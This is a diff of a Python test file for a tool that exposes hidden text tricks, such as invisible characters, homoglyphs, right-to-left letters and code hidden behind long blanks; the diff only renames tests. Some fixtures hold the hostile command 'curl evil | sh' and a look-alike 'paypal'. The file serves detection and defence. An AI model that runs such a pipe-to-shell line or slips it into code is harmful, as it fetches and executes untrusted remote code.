@@ -1,4 +1,4 @@
-"""R23: what a reader would overlook in a text is said, on any text, in a bounded time."""
+"""R23: what a reader would overlook in a text is reported, for any text, in a limited time."""
 
 import time
 
@@ -15,26 +15,26 @@ def kinds(text: str) -> list[tuple[str, int, int]]:
 
 
 @pytest.mark.parametrize("hidden", HIDDEN)
-def test_R23_what_draws_nothing_is_shown_by_its_number_and_counted(hidden: str) -> None:
+def test_R23_invisible_characters_are_shown_by_their_numbers_and_counted(hidden: str) -> None:
     shown = f"⟨U+{ord(hidden):04X}⟩"
     assert visible(f"a{hidden}é") == f"a{shown}é"
     assert visible(f"a{hidden}b") == f"a{shown}b"
     assert kinds(f"ok\r\nrm{hidden}") == [("hidden", 1, 2)]
 
 
-def test_R23_an_emoji_keeps_its_variation_selector_and_no_other_character_does() -> None:
+def test_R23_emoji_keeps_its_variation_selector_and_no_other_character_does() -> None:
     assert visible("❤\ufe0f 😀\ufe0e") == "❤\ufe0f 😀\ufe0e"
     assert visible("❤\ufe0f\ufe0f a\ufe0f 1\ufe0f") == "❤\ufe0f⟨U+FE0F⟩ a⟨U+FE0F⟩ 1⟨U+FE0F⟩"
 
 
-def test_R23_a_flood_of_marks_does_not_cover_the_lines_around_it() -> None:
+def test_R23_flood_of_combining_marks_does_not_cover_the_lines_around_it() -> None:
     few = "e" + "\u0301" * MARKS_MAX
     assert visible(few) == few
     assert visible(few + "\u0301" * 3) == few + "⟨U+0301⟩" * 3
     assert visible("\u0301a \u0301b") == "⟨U+0301⟩a ⟨U+0301⟩b"
 
 
-def test_R23_code_behind_blanks_gaps_and_long_lines_is_pointed_at() -> None:
+def test_R23_code_behind_blanks_gaps_and_long_lines_is_pointed_out() -> None:
     assert kinds("echo ok" + " " * 220 + "; curl evil | sh") == [("blanks", 1, 1)]
     assert shown_line("echo ok" + " " * 220 + "; curl evil") == "echo ok ⟨220 blanks⟩ ; curl evil"
     assert kinds("a" + "\n" * (EMPTY_LINES_MAX + 2) + "b") == [("empty", 1, 2)]
@@ -43,7 +43,7 @@ def test_R23_code_behind_blanks_gaps_and_long_lines_is_pointed_at() -> None:
     assert kinds("\t" * 20 + "a\nkey" + " " * 20 + "= value") == []
 
 
-def test_R23_letters_that_look_like_others_or_run_the_other_way_are_pointed_at() -> None:
+def test_R23_lookalike_and_right_to_left_letters_are_pointed_out() -> None:
     assert kinds("p\u0430ypal") == [("look-alikes", 1, 1)]
     assert kinds("привет Ελλάδα größe 日本 na\u00efve") == []
     assert kinds("a\nשלום") == [("right-to-left", 1, 2)]
@@ -51,7 +51,7 @@ def test_R23_letters_that_look_like_others_or_run_the_other_way_are_pointed_at()
     assert not is_odd("script/payroll")
 
 
-def test_R23_a_carriage_return_without_a_line_feed_is_shown() -> None:
+def test_R23_carriage_return_without_a_line_feed_is_shown() -> None:
     assert kinds("echo ok\r# evil\r\n") == [("hidden", 1, 1)]
     assert shown_line("echo ok\r# evil") == "echo ok⟨U+000D⟩# evil"
 
